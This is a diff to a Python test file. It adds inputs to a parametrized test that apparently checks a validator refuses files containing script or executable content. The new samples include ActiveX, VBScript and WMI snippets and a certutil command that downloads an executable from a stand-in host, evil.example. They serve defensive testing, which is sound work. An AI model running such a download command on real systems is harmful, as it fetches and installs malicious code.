@@ -113,6 +113,10 @@ def test_a_word_file_with_broken_parts_is_damaged(tmp_path: Path) -> None:
         b"WEB\r\n1\r\nhttps://evil.example/",
         b"ID;P\r\nC;X1;E=1",
         b"import os\nos.system('x')",
+        b"var a = new ActiveXObject('x');",
+        b"certutil -urlcache -f https://evil.example/a.exe a.exe",
+        b"On Error Resume Next\r\nDim a",
+        b'Set a = GetObject("winmgmts:")',
     ],
 )
 def test_a_text_that_a_program_runs_or_shows_as_a_page_is_refused(tmp_path: Path, content: bytes) -> None:
